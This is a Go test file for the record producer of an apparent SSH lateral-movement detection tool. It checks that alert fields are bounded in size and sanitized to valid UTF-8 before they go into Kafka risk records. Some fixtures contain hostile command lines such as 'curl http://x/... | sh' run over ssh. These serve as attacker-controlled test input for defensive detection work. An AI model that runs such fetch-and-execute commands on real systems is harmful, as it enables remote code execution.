package producer

import (
	"bytes"
	"reflect"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/sshlateral/sshlateral/processor"
)

func TestFieldPositions(t *testing.T) {
	if got := schemaFieldNames(t); !reflect.DeepEqual(got, fieldNames[:]) {
		t.Errorf("schema fields\n got %v\nwant %v", got, fieldNames)
	}
}

func TestBoundString(t *testing.T) {
	tests := []struct {
		name          string
		in            string
		max           int
		want          string
		trunc, sanitz bool
	}{
		{name: "short ascii kept", in: "web-01", max: 8, want: "web-01"},
		{name: "exactly at the bound", in: "abcd", max: 4, want: "abcd"},
		{name: "ascii cut", in: "abcdef", max: 4, want: "abcd", trunc: true},
		{name: "cut before a rune that does not fit", in: "ab€", max: 4, want: "ab", trunc: true},
		{name: "rune that fits exactly", in: "a€x", max: 4, want: "a€", trunc: true},
		{name: "invalid byte replaced", in: "ssh \xff-o", max: 16, want: "ssh \uFFFD-o", sanitz: true},
		{name: "each invalid byte replaced", in: "\xff\xfe", max: 16, want: "\uFFFD\uFFFD", sanitz: true},
		{name: "truncated sequence replaced", in: "a\xe2\x82", max: 16, want: "a\uFFFD\uFFFD", sanitz: true},
		{name: "replacement counts towards the bound", in: "ab\xff", max: 4, want: "ab", trunc: true},
		{name: "invalid byte only after the cut", in: "abcd\xff", max: 4, want: "abcd", trunc: true},
		{name: "genuine U+FFFD is not sanitizing", in: "a\uFFFDb", max: 16, want: "a\uFFFDb"},
		{name: "nul is valid utf-8", in: "a\x00b", max: 16, want: "a\x00b"},
		{name: "empty", in: "", max: 4, want: ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, trunc, sanitz := boundString(tc.in, tc.max)
			if got != tc.want || trunc != tc.trunc || sanitz != tc.sanitz {
				t.Errorf("boundString(%q, %d) = %q, %v, %v; want %q, %v, %v", tc.in, tc.max, got, trunc, sanitz, tc.want, tc.trunc, tc.sanitz)
			}
		})
	}
}

func FuzzBoundString(f *testing.F) {
	for _, s := range []string{"", "ssh -oBatchMode=yes h", "\xff\xfe", "a€b", "\xe2\x82", strings.Repeat("é", 9)} {
		f.Add(s, 5)
	}
	f.Fuzz(func(t *testing.T, s string, max int) {
		if max < 0 || max > 64 {
			return
		}
		got, trunc, sanitz := boundString(s, max)
		// Ranging over a string yields U+FFFD for each invalid byte.
		var ref strings.Builder
		for _, r := range s {
			ref.WriteRune(r)
		}
		full := ref.String()
		switch {
		case len(got) > max || !utf8.ValidString(got):
			t.Fatalf("boundString(%q, %d) = %q: over the bound or invalid", s, max, got)
		case !strings.HasPrefix(full, got):
			t.Fatalf("boundString(%q, %d) = %q: not a prefix of the sanitized %q", s, max, got, full)
		case trunc == (got == full):
			t.Fatalf("boundString(%q, %d) = %q: truncated %v, sanitized %q", s, max, got, trunc, full)
		case trunc && func() bool { _, n := utf8.DecodeRuneInString(full[len(got):]); return len(got)+n <= max }():
			t.Fatalf("boundString(%q, %d) = %q: cut earlier than needed", s, max, got)
		case sanitz != strings.Contains(got, "\uFFFD") && !strings.Contains(s, "\uFFFD"):
			t.Fatalf("boundString(%q, %d) = %q: sanitized %v", s, max, got, sanitz)
		}
	})
}

// hostileResult is fullResult with field values an attacker controls.
func hostileResult(mutate func(*processor.Result)) processor.Result {
	r := fullResult()
	mutate(&r)
	return r
}

// TestRecordsBoundHostileFields: an oversized or non-UTF-8 match is still
// reported, every record stays far below Kafka's 1 MB default, its strings
// are valid UTF-8, and the record says what was changed.
func TestRecordsBoundHostileFields(t *testing.T) {
	const recordLimit = 32 << 10 // documented bound, far below 1,000,012 B
	longHost := strings.Repeat("h", 400<<10)
	tests := []struct {
		name                        string
		result                      processor.Result
		destTrunc, userTrunc        []any // truncated lists of the two records
		destSanitized, userSanitzed []any
		check                       func(t *testing.T, rec map[string]any)
	}{
		{
			name:      "400 KB computer name",
			result:    hostileResult(func(r *processor.Result) { r.Key.Dest = longHost }),
			destTrunc: []any{"risk_object", "risk_message", "dest"}, userTrunc: []any{"risk_message", "dest"},
			destSanitized: []any{}, userSanitzed: []any{},
			check: func(t *testing.T, rec map[string]any) {
				if rec["dest"] != longHost[:MaxValueBytes] {
					t.Errorf("dest is %d bytes, want the first %d", len(rec["dest"].(string)), MaxValueBytes)
				}
				if !strings.Contains(rec["risk_message"].(string), " on endpoint "+longHost[:MaxValueBytes]+" by user deploy ") {
					t.Errorf("risk_message not rendered from the bounded dest")
				}
			},
		},
		{
			name:      "400 KB user",
			result:    hostileResult(func(r *processor.Result) { r.Key.User = strings.Repeat("u", 400<<10) }),
			destTrunc: []any{"risk_message", "user"}, userTrunc: []any{"risk_object", "risk_message", "user"},
			destSanitized: []any{}, userSanitzed: []any{},
		},
		{
			name: "1 MB command lines",
			result: hostileResult(func(r *processor.Result) {
				r.Key.Process = "ssh -oBatchMode=yes h curl http://x/" + strings.Repeat("€", 400<<10)
				r.ParentProcess = strings.Repeat("p", 1<<20)
			}),
			destTrunc: []any{"process", "parent_process"}, userTrunc: []any{"process", "parent_process"},
			destSanitized: []any{}, userSanitzed: []any{},
			check: func(t *testing.T, rec map[string]any) {
				p := rec["process"].(string)
				if len(p) > MaxCommandLineBytes || len(p) < MaxCommandLineBytes-3 || !strings.HasPrefix(p, "ssh -oBatchMode=yes h curl http://x/€") {
					t.Errorf("process is %d bytes, want a prefix cut within 3 bytes of %d", len(p), MaxCommandLineBytes)
				}
			},
		},
		{
			name: "every value oversized and invalid",
			result: hostileResult(func(r *processor.Result) {
				big := strings.Repeat("\xff", 600<<10)
				k := &r.Key
				k.Dest, k.User, k.ParentProcessName, k.ProcessName, k.Process, k.ProcessID, k.ParentProcessID = big, big, big, big, big, big, big
				r.ParentProcess, r.ProcessPath, r.ParentProcessPath, r.OriginalFileName = big, big, big, big
			}),
			destTrunc: []any{"risk_object", "risk_message", "threat_object", "dest", "user", "parent_process_name", "process_name",
				"process", "process_id", "parent_process_id", "parent_process", "process_path", "parent_process_path", "original_file_name"},
			userTrunc: []any{"risk_object", "risk_message", "threat_object", "dest", "user", "parent_process_name", "process_name",
				"process", "process_id", "parent_process_id", "parent_process", "process_path", "parent_process_path", "original_file_name"},
			destSanitized: []any{"risk_object", "risk_message", "threat_object", "dest", "user", "parent_process_name", "process_name",
				"process", "process_id", "parent_process_id", "parent_process", "process_path", "parent_process_path", "original_file_name"},
			userSanitzed: []any{"risk_object", "risk_message", "threat_object", "dest", "user", "parent_process_name", "process_name",
				"process", "process_id", "parent_process_id", "parent_process", "process_path", "parent_process_path", "original_file_name"},
		},
		{
			name:      "invalid utf-8 in the command line",
			result:    hostileResult(func(r *processor.Result) { r.Key.Process = "ssh -oBatchMode=yes h curl http://x/\xff\xfe | sh" }),
			destTrunc: []any{}, userTrunc: []any{},
			destSanitized: []any{"process"}, userSanitzed: []any{"process"},
			check: func(t *testing.T, rec map[string]any) {
				if want := "ssh -oBatchMode=yes h curl http://x/\uFFFD\uFFFD | sh"; rec["process"] != want {
					t.Errorf("process %q, want %q", rec["process"], want)
				}
			},
		},
		{
			name:      "invalid utf-8 in the user only",
			result:    hostileResult(func(r *processor.Result) { r.Key.User = "de\x80ploy" }),
			destTrunc: []any{}, userTrunc: []any{},
			destSanitized: []any{"risk_message", "user"}, userSanitzed: []any{"risk_object", "risk_message", "user"},
		},
	}
	dec := newTestDecoder(t)
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			recs, err := newTestEncoder(t, WireConfluent, 1).Records([]processor.Result{tc.result}, nil)
			if err != nil {
				t.Fatalf("Records: %v", err)
			}
			if len(recs) != 2 {
				t.Fatalf("%d records, want 2", len(recs))
			}
			wantTrunc := [2][]any{tc.destTrunc, tc.userTrunc}
			wantSanitized := [2][]any{tc.destSanitized, tc.userSanitzed}
			for i, rec := range recs {
				if size := len(rec.Key) + len(rec.Value); size > recordLimit {
					t.Errorf("record %d is %d bytes, want at most %d", i, size, recordLimit)
				}
				got, err := dec.Decode(rec.Value)
				if err != nil {
					t.Fatalf("record %d: Decode: %v", i, err)
				}
				for name, v := range got {
					if s, ok := v.(string); ok && !utf8.ValidString(s) {
						t.Errorf("record %d field %s is not valid UTF-8", i, name)
					}
				}
				if !reflect.DeepEqual(got["truncated"], wantTrunc[i]) {
					t.Errorf("record %d truncated %v, want %v", i, got["truncated"], wantTrunc[i])
				}
				if !reflect.DeepEqual(got["sanitized"], wantSanitized[i]) {
					t.Errorf("record %d sanitized %v, want %v", i, got["sanitized"], wantSanitized[i])
				}
				if got["alert_id"] != tc.result.AlertID || string(rec.Key) != tc.result.AlertID {
					t.Errorf("record %d: alert id %v key %q, want %s unchanged", i, got["alert_id"], rec.Key, tc.result.AlertID)
				}
				if tc.check != nil {
					tc.check(t, got)
				}
				// The same record on every output: JSON of the decoded
				// value equals JSON of RiskRecords.
				a, errA := JSON(got)
				b, errB := JSON(RiskRecords(tc.result)[i])
				if errA != nil || errB != nil || !bytes.Equal(a, b) {
					t.Errorf("record %d: decoded and RiskRecords JSON differ (%v, %v)", i, errA, errB)
				}
			}
		})
	}
}

func TestRecordsRejectUnwritableAlertID(t *testing.T) {
	tests := []struct {
		name string
		id   string
	}{
		{name: "invalid utf-8", id: "ab\xffcd"},
		{name: "over the bound", id: strings.Repeat("a", MaxValueBytes+1)},
	}
	enc := newTestEncoder(t, WirePlain, 0)
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := fullResult()
			r.AlertID = tc.id
			if _, err := enc.Records([]processor.Result{r}, nil); err == nil || !strings.Contains(err.Error(), "alert id") {
				t.Errorf("error %v, want one about the alert id", err)
			}
		})
	}
}
